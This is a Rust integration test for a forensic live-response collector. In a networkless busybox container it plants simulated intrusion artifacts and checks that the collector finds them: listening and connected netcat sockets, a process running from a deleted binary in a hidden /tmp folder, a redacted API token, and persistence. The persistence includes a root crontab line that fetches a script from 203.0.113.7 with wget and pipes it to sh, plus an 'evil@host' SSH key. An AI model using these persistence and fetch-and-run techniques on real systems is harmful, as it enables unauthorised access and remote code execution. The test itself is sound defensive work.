//! Live response inside a real Docker container (busybox image, no registry): a TCP
//! listener, an established connection, a process running from a binary deleted after
//! it started, a process with a secret-looking environment variable, a root crontab and
//! an authorized_keys file. Collected as root and as uid 1000 through `docker exec`;
//! each must be found and attributed (socket → PID, deleted exe hash = the original
//! binary's sha256, secret redacted), and what uid 1000 may not read is logged once.

mod common;
use common::docker::*;
use common::*;
use serde_json::Value;
use sha2::{Digest, Sha256};

fn jsonl(a: &Archive, path: &str) -> Vec<Value> {
    a.text(path)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn pid_of(procs: &[Value], argv: &[&str]) -> i64 {
    procs
        .iter()
        .find(|p| {
            p["cmdline"].as_array().is_some_and(|c| {
                c.iter()
                    .map(|v| v.as_str().unwrap())
                    .eq(argv.iter().copied())
            })
        })
        .unwrap_or_else(|| panic!("no process {argv:?}"))["pid"]
        .as_i64()
        .unwrap()
}

fn owners(s: &Value) -> Vec<i64> {
    s["processes"]
        .as_array()
        .map(|l| l.iter().map(|o| o["pid"].as_i64().unwrap()).collect())
        .unwrap_or_default()
}

/// Starts, as `user`, a TCP listener on 8080+k, a server on 9090+k with a client
/// connected to it, a process with a secret in its environment (`sleep 1001+10k`) and
/// one running from a binary deleted after start (`/tmp/.xK/busybox sleep 1002+10k`).
fn plant(ct: &str, user: &str, k: u32) {
    // busybox nc listens on IPv6 `::` (dual stack), so its sockets show in tcp6; a
    // never-ending stdin keeps the server side open after it accepts.
    let sh = |detach: bool, env: Option<&str>, script: String| {
        let mut args = vec!["exec".to_owned()];
        if detach {
            args.push("-d".into());
        }
        if let Some(e) = env {
            args.extend(["-e".into(), e.to_owned()]);
        }
        args.extend([
            "--user".into(),
            user.into(),
            ct.into(),
            "sh".into(),
            "-c".into(),
            script,
        ]);
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        ok(&refs);
    };
    sh(
        true,
        None,
        format!("sleep 2000 | nc -l -p {} >/dev/null 2>&1", 8080 + k),
    );
    sh(
        true,
        None,
        format!("sleep 2001 | nc -l -p {} >/dev/null 2>&1", 9090 + k),
    );
    sh(
        true,
        Some("API_TOKEN=hunter2-secret"),
        format!("exec sleep {}", 1001 + 10 * k),
    );
    sh(false, None, format!("mkdir -p /tmp/.x{k} && cp /bin/busybox /tmp/.x{k}/busybox && (/tmp/.x{k}/busybox sleep {} >/dev/null 2>&1 &) && sleep 0.3 && rm /tmp/.x{k}/busybox", 1002 + 10 * k));
    std::thread::sleep(std::time::Duration::from_millis(300));
    sh(
        true,
        None,
        format!("sleep 1003 | nc 127.0.0.1 {} >/dev/null 2>&1", 9090 + k),
    );
    // Wait until the connection is up.
    let port = format!(":{:04X} ", 9090 + k);
    for _ in 0..50 {
        let t = ok(&["exec", ct, "cat", "/proc/net/tcp", "/proc/net/tcp6"]);
        if t.lines()
            .any(|l| l.contains(&port) && l.split_whitespace().nth(3) == Some("01"))
        {
            return;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    panic!("the connection to port {} did not come up", 9090 + k);
}

#[test]
fn live_response_in_busybox_as_root_and_as_uid_1000() {
    let Some(bin) = setup() else { return };
    let img = busybox_image();
    let dir = tempfile::tempdir().unwrap();
    let vol = format!("{}:/opt/cairn/cairn-collector:ro", bin.display());
    let name = format!("cairn-live-{}", std::process::id());
    ok(&[
        "run",
        "-d",
        "--network",
        "none",
        "--name",
        &name,
        "-v",
        &vol,
        img,
        "sleep",
        "3600",
    ]);
    let _c = Container(name.clone());
    let id = ok(&["inspect", "-f", "{{.Id}}", &name]);

    // Persistence planted by root: a root crontab (0600) and app's authorized_keys.
    ok(&["exec", &name, "sh", "-c", "mkdir -p /etc/crontabs /home/app/.ssh && echo '* * * * * wget -q -O- http://203.0.113.7/x | sh' > /etc/crontabs/root && chmod 600 /etc/crontabs/root && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker evil@host' > /home/app/.ssh/authorized_keys && chown -R 1000:1000 /home/app/.ssh"]);
    // Without CAP_SYS_PTRACE (Docker's default) the kernel lets a collector read the
    // fd table and exe of processes of its own uid only, so each run gets its own set:
    // root's processes for the root run, uid 1000's for the uid-1000 run.
    for (user, k) in [("0", 0u32), ("1000", 1)] {
        plant(&name, user, k);
    }
    let busybox_sha = hex::encode(Sha256::digest(std::fs::read("/bin/busybox").unwrap()));

    for user in [None, Some("1000")] {
        let out = collect_via_exec(&name, "/opt/cairn/cairn-collector", user, dir.path());
        let a = Archive::read(&out);
        let who = user.unwrap_or("root");
        let k: u32 = if user.is_some() { 1 } else { 0 };
        let (lport, sport) = (8080 + k, 9090 + k);
        let (sl_secret, sl_del) = ((1001 + 10 * k).to_string(), (1002 + 10 * k).to_string());
        let (lp, sp) = (lport.to_string(), sport.to_string());
        let xdir = format!("/tmp/.x{k}/busybox");
        let procs = jsonl(&a, "live_response/processes/processes.jsonl");
        let listener = pid_of(&procs, &["nc", "-l", "-p", &lp]);
        let server = pid_of(&procs, &["nc", "-l", "-p", &sp]);
        let client = pid_of(&procs, &["nc", "127.0.0.1", &sp]);
        let deleted = pid_of(&procs, &[&xdir, "sleep", &sl_del]);
        let secret = pid_of(&procs, &["sleep", &sl_secret]);

        // Sockets, attributed to their processes.
        let sockets = jsonl(&a, "live_response/network/sockets.jsonl");
        let tcp = |f: &dyn Fn(&Value) -> bool| -> Vec<&Value> {
            sockets
                .iter()
                .filter(|s| s["proto"].as_str().unwrap().starts_with("tcp") && f(s))
                .collect()
        };
        let listen = tcp(&|s| s["local_port"] == lport && s["state"] == "LISTEN");
        assert_eq!(listen.len(), 1, "{who}: {sockets:?}");
        assert_eq!(owners(listen[0]), vec![listener], "{who}");
        let est = tcp(&|s| s["remote_port"] == sport && s["state"] == "ESTABLISHED");
        assert_eq!(est.len(), 1, "{who}: {sockets:?}");
        assert_eq!(owners(est[0]), vec![client], "{who}");
        assert_eq!(est[0]["uid"], if k == 0 { 0 } else { 1000 });
        let accepted = tcp(&|s| s["local_port"] == sport && s["state"] == "ESTABLISHED");
        assert_eq!(owners(accepted[0]), vec![server], "{who}");
        assert!(a
            .text("live_response/network/listening.txt")
            .contains(&format!("{listener}/nc")));
        assert!(a
            .text("live_response/network/established.txt")
            .contains(&format!("{client}/nc")));

        // The deleted executable: flagged, hashed through /proc/PID/exe, copied.
        let exes = jsonl(&a, "live_response/processes/executables.jsonl");
        let e = exes
            .iter()
            .find(|e| e["pid"] == deleted)
            .expect("deleted exe");
        assert_eq!(e["exe"], xdir.as_str());
        assert_eq!(e["deleted"], true);
        assert_eq!(e["sha256"], busybox_sha.as_str(), "{who}");
        let copy = e["copy"].as_str().expect("a copy of the deleted binary");
        assert_eq!(
            hex::encode(Sha256::digest(a.get(copy).unwrap())),
            busybox_sha
        );
        let p = procs.iter().find(|p| p["pid"] == deleted).unwrap();
        assert_eq!(p["exe_deleted"], true);

        // The secret is redacted, its name listed.
        let p = procs.iter().find(|p| p["pid"] == secret).unwrap();
        let env: Vec<&str> = p["environ"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap())
            .collect();
        assert!(
            env.contains(&"API_TOKEN=[REDACTED 14 bytes]"),
            "{who}: {env:?}"
        );
        assert_eq!(p["environ_redacted"], serde_json::json!(["API_TOKEN"]));
        assert!(
            !a.contains_bytes(b"hunter2-secret"),
            "{who}: the secret leaked"
        );

        // Persistence files and the timeline.
        assert!(a
            .text("files/home/app/.ssh/authorized_keys")
            .contains("evil@host"));
        let body = a.text("outputs/live/timeline/bodyfile.txt");
        assert!(
            body.lines()
                .any(|l| l.split('|').nth(1) == Some("/etc/crontabs/root")),
            "{who}"
        );
        assert!(
            body.lines()
                .any(|l| l.starts_with(&format!("0|/tmp/.x{k}|"))),
            "{who}"
        );

        // Identity: the container ID, the overlay layers, the tree.
        let sys: Value = serde_json::from_str(&a.text("live_response/system/system.json")).unwrap();
        assert_eq!(sys["container"]["id"], id.as_str(), "{who}: {sys}");
        assert_eq!(sys["container"]["runtime"], "docker");
        let ov: Value = serde_json::from_str(&a.text("live_response/mounts/overlay.json")).unwrap();
        assert!(
            ov["root"]["upperdir"]
                .as_str()
                .unwrap()
                .contains("/overlay2/"),
            "{ov}"
        );
        assert!(a
            .text("live_response/processes/tree.txt")
            .contains(&format!("{xdir} sleep {sl_del} (exe deleted)")));

        let priv_ = &a.summary()["collector"]["privileges"];
        match user {
            None => {
                assert!(a.text("files/etc/crontabs/root").contains("203.0.113.7"));
                assert_eq!(priv_["euid"], 0);
            }
            Some(_) => {
                assert_eq!(priv_["euid"], 1000);
                assert_eq!(priv_["cap_eff"], "0000000000000000");
                // Root's crontab is unreadable: one denial, with path and reason.
                assert!(a.get("files/etc/crontabs/root").is_none());
                let log = a.log();
                assert!(
                    log.iter()
                        .any(|l| l["event"] == "denied" && l["path"] == "/etc/crontabs/root"),
                    "{log:?}"
                );
                // PID 1 (root's sleep) keeps its environ from uid 1000: logged once per kind.
                let env_denials: Vec<&Value> = log
                    .iter()
                    .filter(|l| {
                        l["event"] == "denied"
                            && l["message"].as_str().unwrap().starts_with("environ:")
                    })
                    .collect();
                assert_eq!(env_denials.len(), 1, "{env_denials:?}");
                assert!(env_denials[0]["message"]
                    .as_str()
                    .unwrap()
                    .contains("EACCES"));
            }
        }
    }
}
